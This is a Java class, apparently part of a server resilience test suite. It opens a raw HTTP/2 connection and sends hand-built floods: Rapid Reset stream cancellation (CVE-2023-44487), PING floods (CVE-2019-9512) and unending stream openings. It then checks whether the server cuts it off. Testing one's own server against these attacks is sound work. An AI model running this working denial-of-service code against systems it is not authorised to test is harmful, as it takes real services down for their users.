package org.lidless.torture;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/// A connection by HTTP/2 (RFC 9113) whose frames are written by hand, to send what no client library sends. One
/// thread.
final class HostileHttp2 implements AutoCloseable {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int REFUSED_STREAM = 7;
    private static final int HEAD_BYTES = 9;
    private static final int READ_MILLIS = 5_000;

    private final SSLSocket socket;
    private final OutputStream out;
    private final byte[] request;
    private int stream = 1;

    /// @param path  what is asked for
    /// @param token carried by every request
    HostileHttp2(URI server, String method, String path, String token) throws IOException {
        socket = (SSLSocket) AnyServer.context().getSocketFactory().createSocket(server.getHost(), server.getPort());
        SSLParameters parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        socket.setSoTimeout(READ_MILLIS);
        socket.startHandshake();
        out = socket.getOutputStream();
        request = request(server.getAuthority(), method, path, token);
        out.write(PREFACE);
        frame(SETTINGS, 0, 0, new byte[0]);
    }

    /// Headers without a table (RFC 7541 section 6.2.2), so that nothing has to be remembered.
    private static byte[] request(String authority, String method, String path, String token) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        header(block, ":method", method);
        header(block, ":scheme", "https");
        header(block, ":path", path);
        header(block, ":authority", authority);
        header(block, "authorization", "Bearer " + token);
        header(block, "content-type", "application/json");
        return block.toByteArray();
    }

    private static void header(ByteArrayOutputStream block, String name, String value) throws IOException {
        block.write(0);
        text(block, name);
        text(block, value);
    }

    private static void text(ByteArrayOutputStream block, String text) throws IOException {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        if (bytes.length < 127) {
            block.write(bytes.length);
        } else {
            block.write(127);
            int rest = bytes.length - 127;
            while (rest >= 128) {
                block.write(rest % 128 + 128);
                rest /= 128;
            }
            block.write(rest);
        }
        block.write(bytes);
    }

    private void frame(int type, int flags, int on, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(HEAD_BYTES + payload.length);
        frame.put((byte) (payload.length >> 16)).putShort((short) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(on).put(payload);
        out.write(frame.array());
    }

    /// Asks and takes it back at once, again and again (CVE-2023-44487), until the server has had enough.
    ///
    /// @return whether it had
    boolean isCutOffForAskingAndCancelling(int most) throws IOException {
        return isCutOff(most, () -> {
            frame(HEADERS, END_STREAM | END_HEADERS, stream, request);
            frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
            stream += 2;
        });
    }

    /// Sends pings, each of which wants an answer (CVE-2019-9512).
    boolean isCutOffForPinging(int most) throws IOException {
        return isCutOff(most, () -> frame(PING, 0, 0, new byte[8]));
    }

    private interface Deed {
        void carryOut() throws IOException;
    }

    private boolean isCutOff(int most, Deed deed) throws IOException {
        try {
            for (int count = 0; count < most; count++) {
                deed.carryOut();
            }
            out.flush();
            return readsUntil(GOAWAY);
        } catch (SocketException | SSLException cut) {
            return true;
        }
    }

    /// Opens so many requests at once, none of which ends.
    ///
    /// @return how many were refused
    int refusedOf(int many) throws IOException {
        for (int count = 0; count < many; count++) {
            frame(HEADERS, END_HEADERS, stream, request);
            stream += 2;
        }
        out.flush();
        int refused = 0;
        DataInputStream in = new DataInputStream(socket.getInputStream());
        try {
            while (true) {
                ByteBuffer head = ByteBuffer.wrap(in.readNBytes(HEAD_BYTES));
                if (head.remaining() < HEAD_BYTES || head.get(3) == GOAWAY) {
                    return many;
                }
                byte[] payload = in.readNBytes(((head.get(0) & 255) << 16) | (head.getShort(1) & 0xFFFF));
                if (head.get(3) == RST_STREAM && ByteBuffer.wrap(payload).getInt() == REFUSED_STREAM) {
                    refused++;
                }
            }
        } catch (SocketTimeoutException noMore) {
            return refused;
        }
    }

    private boolean readsUntil(int type) throws IOException {
        DataInputStream in = new DataInputStream(socket.getInputStream());
        try {
            while (true) {
                byte[] head = in.readNBytes(HEAD_BYTES);
                if (head.length < HEAD_BYTES || head[3] == type) {
                    return true;
                }
                in.skipNBytes(((head[0] & 255) << 16) | (ByteBuffer.wrap(head).getShort(1) & 0xFFFF));
            }
        } catch (SocketTimeoutException stillOpen) {
            return false;
        }
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
